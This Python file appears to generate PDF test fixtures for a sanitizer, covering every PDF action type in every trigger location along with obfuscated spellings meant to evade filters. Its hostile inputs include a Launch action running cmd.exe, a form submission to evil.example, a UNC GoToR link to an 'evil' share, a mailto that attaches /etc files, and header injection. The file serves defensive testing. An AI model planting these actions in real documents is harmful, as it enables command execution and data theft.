"""Every kind of action in every place where one may hang (ISO 32000-2 12.6)."""
from case import add, PAYLOAD, OUTPUT
import pdf

# kind: (action, what else the file needs from object 6 on, names that may not be left)
ACTIONS = {
    "javascript": ("<</S/JavaScript/JS(app.alert\\('%s'\\))>>", [], ["/JavaScript", "/JS"]),
    "javascript-stream": ("<</S/JavaScript/JS 6 0 R>>", [pdf.flate("app.alert('%s')" % PAYLOAD)], ["/JavaScript", "/JS"]),
    "launch": ("<</S/Launch/F(%s.exe)/NewWindow true>>", [], ["/Launch"]),
    "launch-win": ("<</S/Launch/Win<</F(cmd.exe)/P(/c %s)/O(open)>>>>", [], ["/Launch", "/Win"]),
    "submitform": ("<</S/SubmitForm/F<</FS/URL/F(http://evil.example/%s)>>/Flags 4>>", [], ["/SubmitForm"]),
    "importdata": ("<</S/ImportData/F(%s.fdf)>>", [], ["/ImportData"]),
    "resetform": ("<</S/ResetForm/Fields[(%s)]>>", [], ["/ResetForm"]),
    "gotor": ("<</S/GoToR/F(\\\\\\\\evil\\\\%s.pdf)/D[0/Fit]>>", [], ["/GoToR"]),
    "gotoe": ("<</S/GoToE/D[0/Fit]/T<</R/C/N(%s)>>>>", [], ["/GoToE"]),
    "thread": ("<</S/Thread/F(%s.pdf)/D 0>>", [], ["/Thread"]),
    "uri-javascript": ("<</S/URI/URI(JaVaScRiPt:%s)>>", [], []),
    "uri-file": ("<</S/URI/URI(file:///c:/%s)>>", [], []),
    "uri-data": ("<</S/URI/URI(data:text/html,%s)>>", [], []),
    "uri-mail-attach": ("<</S/URI/URI(mailto:a@b.example?attach=/etc/%s)>>", [], []),
    "uri-mail-fields": ("<</S/URI/URI(mailto:a@b.example?subject=x%%0D%%0ABcc:%s@c.example)>>", [], []),
    "uri-host": ("<</S/URI/URI(https://a.example\\\\@%s.example/)>>", [], []),
    "sound": ("<</S/Sound/Sound 6 0 R>>", [pdf.stream(PAYLOAD, "/Type/Sound/R 8000")], ["/Sound"]),
    "movie": ("<</S/Movie/T(%s)/Operation/Play>>", [], ["/Movie"]),
    "hide": ("<</S/Hide/T(%s)/H false>>", [], ["/Hide"]),
    "named-print": ("<</S/Named/N/Print/X(%s)>>", [], ["/Print"]),
    "named-saveas": ("<</S/Named/N/SaveAs/X(%s)>>", [], ["/SaveAs"]),
    "setocgstate": ("<</S/SetOCGState/State[/OFF 6 0 R]>>", ["<</Type/OCG/Name(%s)>>" % PAYLOAD], ["/SetOCGState"]),
    "rendition": ("<</S/Rendition/OP 0/JS(%s)/R<</Type/Rendition/S/MR/N(%s)>>>>", [], ["/Rendition"]),
    "trans": ("<</S/Trans/Trans<</S/R/X(%s)>>>>", [], []),
    "goto3dview": ("<</S/GoTo3DView/TA 3 0 R/V(%s)>>", [], ["/GoTo3DView"]),
    "richmediaexecute": ("<</S/RichMediaExecute/CMD<</C(%s)>>>>", [], ["/RichMediaExecute"]),
    "gotodp": ("<</S/GoToDp/Dp 6 0 R>>", ["<</Type/DPart/X(%s)>>" % PAYLOAD], ["/GoToDp"]),
    "unknown": ("<</S/SekishoUnknown/X(%s)>>", [], ["/SekishoUnknown"]),
    "array": ("[<</S/JavaScript/JS(%s)>>]", [], ["/JavaScript"]),
    "no-subtype": ("<</JS(%s)>>", [], ["/JS"]),
}

LINK = "<</Type/Annot/Subtype/Link/Rect[10 10 90 30]/Border[0 0 1]%s>>"
FIELD = "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(value)/Rect[10 40 90 60]/F 4%s>>"


def form(a):
    return pdf.objects(catalog="/AcroForm<</Fields[7 0 R]/DA(/F 12 Tf)/DR<</Font<</F 5 0 R>>>>>>",
                       annots=["7 0 R"], extra=a)


# place: a function of (action, extra objects) that makes the objects of the file
PLACES = {
    "openaction": lambda a, x: pdf.objects(catalog="/OpenAction" + a, extra=x),
    "catalog-aa": lambda a, x: pdf.objects(catalog="/AA<</WC%s/WS%s/DS%s/WP%s/DP%s>>" % (a, a, a, a, a), extra=x),
    "page-aa": lambda a, x: pdf.objects(page="/AA<</O%s/C%s>>" % (a, a), extra=x),
    "link": lambda a, x: pdf.objects(annots=[LINK % ("/A" + a)], extra=x),
    "link-pa": lambda a, x: pdf.objects(annots=[LINK % ("/Dest[3 0 R/Fit]/PA" + a)], extra=x),
    "annotation-aa": lambda a, x: pdf.objects(
        annots=["<</Type/Annot/Subtype/Square/Rect[10 10 90 30]/AA<</E%s/X%s/PO%s/PC%s/PV%s/PI%s>>>>" % ((a,) * 6)],
        extra=x),
    "field": lambda a, x: form((x + ["null"])[:1] + [FIELD % ("/A" + a)]),
    "field-aa": lambda a, x: form((x + ["null"])[:1] + [FIELD % ("/AA<</K%s/F%s/V%s/C%s>>" % (a, a, a, a))]),
    "outline": lambda a, x: pdf.objects(
        catalog="/Outlines 7 0 R",
        extra=(x + ["null"])[:1] + ["<</Type/Outlines/First 8 0 R/Last 8 0 R/Count 1>>",
                                    "<</Title(Chapter)/Parent 7 0 R/A%s>>" % a]),
    "next": lambda a, x: pdf.objects(
        annots=[LINK % ("/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>>>" % a)], extra=x),
}


def actions():
    for kind, (action, extra, names) in ACTIONS.items():
        a = action.replace("%s", PAYLOAD)
        for place, make in PLACES.items():
            add("pdf-action-%s-%s.pdf" % (kind, place), "pdf-action", "%s in %s" % (kind, place),
                pdf.write(make(a, list(extra))), [PAYLOAD] + names)


def names_tree():
    js = "<</S/JavaScript/JS(%s)>>" % PAYLOAD
    trees = {
        "flat": ("<</JavaScript<</Names[(a)%s]>>>>" % js, []),
        "kids": ("<</JavaScript<</Kids[6 0 R]>>>>", ["<</Limits[(a)(a)]/Names[(a)%s]>>" % js]),
        "cycle": ("<</JavaScript 6 0 R>>", ["<</Kids[6 0 R 7 0 R]>>", "<</Names[(a)%s]>>" % js]),
        "indirect": ("6 0 R", ["<</JavaScript 7 0 R>>", "<</Names 8 0 R>>", "[(a)9 0 R]", js]),
    }
    for name, (tree, extra) in trees.items():
        add("pdf-names-javascript-%s.pdf" % name, "pdf-action", "document JavaScript, name tree: " + name,
            pdf.doc(catalog="/Names " + tree, extra=extra), [PAYLOAD, "/JavaScript", "/JS"])
    add("pdf-dests-named-action.pdf", "pdf-action", "an action where a destination belongs",
        pdf.doc(catalog="/Names<</Dests<</Names[(x)<</D[3 0 R/Fit]/A%s>>]>>>>" % js), [PAYLOAD, "/JavaScript"],
        OUTPUT)
    add("pdf-field-calculation.pdf", "pdf-action", "calculation order and a field's format script",
        pdf.doc(catalog="/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>", annots=["6 0 R"],
                extra=[FIELD % ("/AA<</C%s/F%s>>" % (js, js))]), [PAYLOAD, "/JavaScript", "/CO"])


def spellings():
    base = "/OpenAction<<%s>>"
    payload16 = ("\ufeffapp.alert('%s')" % PAYLOAD).encode("utf-16-be")
    spelt = {
        "name-hex": "/S/J#61vaScript/J#53(%s)" % PAYLOAD,
        "name-all-hex": "/#53/#4a#61#76#61#53#63#72#69#70#74/#4A#53(%s)" % PAYLOAD,
        "string-hex": "/S/JavaScript/JS<%s>" % PAYLOAD.encode().hex(),
        "string-octal": "/S/JavaScript/JS(%s)" % "".join("\\%03o" % c for c in PAYLOAD.encode()),
        "string-utf16": "/S/JavaScript/JS<%s>" % payload16.hex(),
        "string-continued": "/S/JavaScript/JS(%s\\\n%s)" % (PAYLOAD[:5], PAYLOAD[5:]),
        "comments": "/S% x\n/JavaScript% y\r/JS% z\n(" + PAYLOAD + ")",
        "key-twice": "/S/GoTo/D[3 0 R/Fit]/S/JavaScript/JS(%s)" % PAYLOAD,
        "no-spaces": "/S/JavaScript/JS(%s)/Next<</S/JavaScript/JS(%s)>>" % (PAYLOAD, PAYLOAD),
        "null-bytes": "\0/S\0/JavaScript\0/JS\0(%s)\0" % PAYLOAD,
    }
    for name, body in spelt.items():
        add("pdf-spelling-%s.pdf" % name, "pdf-spelling", "JavaScript spelt as " + name,
            pdf.doc(catalog=base % body), [PAYLOAD, "/JavaScript", "/JS"])
    add("pdf-spelling-catalog-key-hex.pdf", "pdf-spelling", "/Open#41ction",
        pdf.doc(catalog="/Open#41ction<</S/JavaScript/JS(%s)>>" % PAYLOAD), [PAYLOAD, "/OpenAction", "/JavaScript"])


def make():
    actions()
    names_tree()
    spellings()
